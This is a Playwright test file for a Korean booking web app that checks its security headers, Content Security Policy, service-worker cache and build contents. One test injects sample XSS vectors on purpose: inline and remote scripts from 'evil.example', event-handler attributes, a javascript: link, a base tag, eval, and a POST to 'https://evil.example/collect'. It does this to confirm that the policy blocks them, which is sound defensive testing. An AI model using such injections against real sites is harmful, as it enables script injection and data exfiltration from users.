import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Page } from '@playwright/test'
import { isDeclared } from '../../src/content/legal/keptOnDevice'
import { branchPath, paths, programPath } from '../../src/domain/site/paths'
import { expect, open, test } from '../support/test'

const HASH = /'sha256-[\w+/=]+'/
const KEPT_FOR_EVER = 'public, max-age=31536000, immutable'
const ASKED_AGAIN = 'no-cache'

/** Headers of every answer. */
const everywhere = {
  'strict-transport-security': 'max-age=63072000; includeSubDomains; preload',
  'x-content-type-options': 'nosniff',
  'x-frame-options': 'DENY',
  'referrer-policy': 'strict-origin-when-cross-origin',
  // The map uses geolocation and the agit's screens the wake lock.
  'permissions-policy': expect.stringMatching(
    /^geolocation=\(self\)(?:, [a-z-]+=\(\))+, screen-wake-lock=\(self\)(?:, [a-z-]+=\(\))+$/,
  ),
  'cross-origin-opener-policy': 'same-origin-allow-popups',
  'cross-origin-resource-policy': 'same-origin',
}

const directivesOf = (policy: string) =>
  Object.fromEntries(
    policy.split('; ').map((directive) => {
      const [name = '', ...sources] = directive.split(' ')
      return [name, sources]
    }),
  )

test('the preview sends the hosting’s headers', { tag: '@desktop' }, async ({ page, request }) => {
  const scripts: string[] = []
  page.on('response', (response) => {
    const { pathname } = new URL(response.url())
    if (/^\/assets\/.*\.js$/.test(pathname)) scripts.push(pathname)
  })
  await open(page, '/')
  const [script = ''] = scripts

  const cached: [string, string][] = [
    ['/', ASKED_AGAIN],
    [paths.branches, ASKED_AGAIN],
    [paths.myBookings, ASKED_AGAIN],
    ['/sw.js', ASKED_AGAIN],
    ['/manifest.webmanifest', ASKED_AGAIN],
    ['/favicon.svg', ASKED_AGAIN],
    [script, KEPT_FOR_EVER],
    ['/media/logo.svg', 'public, max-age=86400'],
    ['/fonts/pretendard/PretendardVariable.subset.0.woff2', KEPT_FOR_EVER],
  ]
  for (const [path, cacheControl] of cached) {
    const headers = (await request.get(path)).headers()
    expect(headers, path).toMatchObject({ ...everywhere, 'cache-control': cacheControl })
    expect(directivesOf(headers['content-security-policy'] ?? ''), path).toEqual({
      'default-src': ["'self'"],
      'script-src': [
        "'self'",
        expect.stringMatching(HASH),
        'https://dapi.kakao.com',
        'https://t1.daumcdn.net/mapjsapi/',
        'https://apis.google.com',
      ],
      'style-src': ["'self'", "'unsafe-inline'"],
      'img-src': [
        "'self'",
        'blob:',
        'https://*.daumcdn.net',
        'https://firebasestorage.googleapis.com',
        'https://storage.googleapis.com',
      ],
      'font-src': ["'self'"],
      'connect-src': [
        // The preview's own: where its listeners are.
        expect.stringMatching(/^http:\/\/localhost:\d+$/),
        "'self'",
        'https://firestore.googleapis.com',
        'https://identitytoolkit.googleapis.com',
        'https://securetoken.googleapis.com',
        'https://content-firebaseappcheck.googleapis.com',
      ],
      'worker-src': ["'self'"],
      'manifest-src': ["'self'"],
      'frame-src': ["'self'"],
      'object-src': ["'none'"],
      'base-uri': ["'none'"],
      'form-action': ["'none'"],
      'frame-ancestors': ["'none'"],
    })
  }
  expect((await request.get('/assets/gone-12345678.js')).status()).toBe(404)
})

/** Collects policy violations across pages. */
async function watchPolicy(page: Page): Promise<string[]> {
  const refused: string[] = []
  await page.exposeFunction('noteRefusal', (directive: string, what: string) => {
    refused.push(`${directive} ${what}`)
  })
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      Reflect.get(window, 'noteRefusal')(effectiveDirective, blockedURI)
    })
  })
  return refused
}

test('no page and no map requests what the policy refuses', { tag: ['@desktop', '@long'] }, async ({
  page,
}) => {
  test.setTimeout(90_000)
  const refused = await watchPolicy(page)
  const complaints: string[] = []
  page.on('console', (message) => {
    if (/polic/i.test(message.text())) complaints.push(message.text())
  })
  const addresses = [
    ...Object.values(paths),
    branchPath('pangyo'),
    programPath('art'),
    '/no-such-page',
  ]
  for (const address of addresses) await open(page, address)

  for (const [address, region] of [
    ['/branches?view=map', '지점 지도'],
    [branchPath('seongsu'), '지점 위치 지도'],
  ] as const) {
    await open(page, address)
    const map = page.getByRole('region', { name: region })
    await map.scrollIntoViewIfNeeded()
    await expect(map.locator('canvas').first()).toBeVisible()
  }
  expect(refused).toEqual([])
  expect(complaints).toEqual([])
})

test.describe('content security', () => {
  test.use({ allowedErrors: [/./] })

  test('injected content neither runs, loads nor sends', {
    tag: '@desktop',
  }, async ({ page }) => {
    const refused = await watchPolicy(page)
    await open(page, '/faq')
    const thrown = await page.evaluate(async () => {
      const takeOver = 'document.title = "taken over"'
      const add = <K extends keyof HTMLElementTagNameMap>(
        tag: K,
        attributes: Record<string, string>,
      ) => {
        const element = document.createElement(tag)
        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
        document.body.append(element)
        return element
      }
      add('script', {}).append(takeOver)
      add('script', { src: `data:text/javascript,${takeOver}` })
      add('script', { src: 'https://evil.example/take-over.js' })
      // An uploaded file on the map service's file host.
      add('script', { src: 'https://t1.daumcdn.net/cfile/take-over.js' })
      add('button', { type: 'button', onclick: takeOver }).click()
      add('img', { src: '/media/none.webp', onerror: takeOver })
      add('img', { src: 'https://evil.example/pixel.png' })
      add('iframe', { src: 'https://evil.example/' })
      add('a', { href: `javascript:${takeOver}` }).click()
      add('base', { href: 'https://evil.example/' })
      // In a timeout: the policy does not apply to what a debugger evaluates at once.
      const ran = new Promise<string[]>((resolve) => {
        const attempts = [
          () => Reflect.apply(Reflect.get(window, 'eval'), window, [takeOver]),
          () => Reflect.construct(Function, [takeOver])(),
        ]
        setTimeout(() => {
          resolve(
            attempts.map((attempt) => {
              try {
                attempt()
                return 'it ran'
              } catch (error) {
                return error instanceof Error ? error.name : 'something else'
              }
            }),
          )
        })
      })
      const sent = await fetch('https://evil.example/collect', { method: 'POST' }).then(
        () => 'sent',
        () => 'not sent',
      )
      return [...(await ran), sent]
    })
    expect(thrown).toEqual(['EvalError', 'EvalError', 'not sent'])
    await expect
      .poll(() => [...new Set(refused)].toSorted())
      .toEqual([
        'base-uri https://evil.example/',
        'connect-src https://evil.example/collect',
        'frame-src https://evil.example',
        'img-src https://evil.example/pixel.png',
        'script-src eval',
        'script-src-attr inline',
        'script-src-elem data',
        'script-src-elem https://evil.example/take-over.js',
        'script-src-elem https://t1.daumcdn.net/cfile/take-over.js',
        'script-src-elem inline',
      ])
    await expect(page).toHaveTitle('자주 묻는 질문 | 도담아지트')
  })
})

test('a first visit stores neither Auth nor the agit pages', {
  tag: '@desktop',
}, () => {
  const worker = readFileSync(join('dist', 'sw.js'), 'utf8')
  const kept = [...worker.matchAll(/"?url"?:"([^"]+)"/g)].map(([, url = '']) => url)
  expect(kept).toContain('200.html')
  expect(kept.length).toBeGreaterThan(8)
  const texts = kept.map((url) => [url, readFileSync(join('dist', url), 'utf8')] as const)
  const traces = texts.filter(([, text]) =>
    /관리 메뉴|오늘의 픽업|signInWithPhoneNumber/.test(text),
  )
  expect(traces.map(([url]) => url)).toEqual([])
  expect(kept.filter((url) => /^(?:staff|__)\b/.test(url))).toEqual([])
})

test('the privacy policy names the databases that the SDK in the build opens', {
  tag: '@desktop',
}, () => {
  const scripts = readdirSync('dist/assets').filter((file) => file.endsWith('.js'))
  const names = scripts.flatMap(
    (file) =>
      readFileSync(join('dist', 'assets', file), 'utf8').match(
        /firebaseLocalStorageDb|firebase-[a-z-]+-database/g,
      ) ?? [],
  )
  expect(names).toContain('firebaseLocalStorageDb')
  expect(names.filter((name) => !isDeclared(name))).toEqual([])
})

test('the build contains nothing of the local emulators', { tag: '@desktop' }, () => {
  const files = readdirSync('dist', { recursive: true, encoding: 'utf8' })
  expect(files.filter((file) => file.startsWith('emulator'))).toEqual([])
  const texts = files.filter((file) => /\.(?:html|js|css|json)$/.test(file))
  expect(texts.length).toBeGreaterThan(50)
  const traces = texts.filter((file) =>
    /demo-dodam-agit|emulator\/(?:config|overview|tokens)|체험 로그인|local-auth-events|Bearer owner/.test(
      readFileSync(join('dist', file), 'utf8'),
    ),
  )
  expect(traces).toEqual([])
})
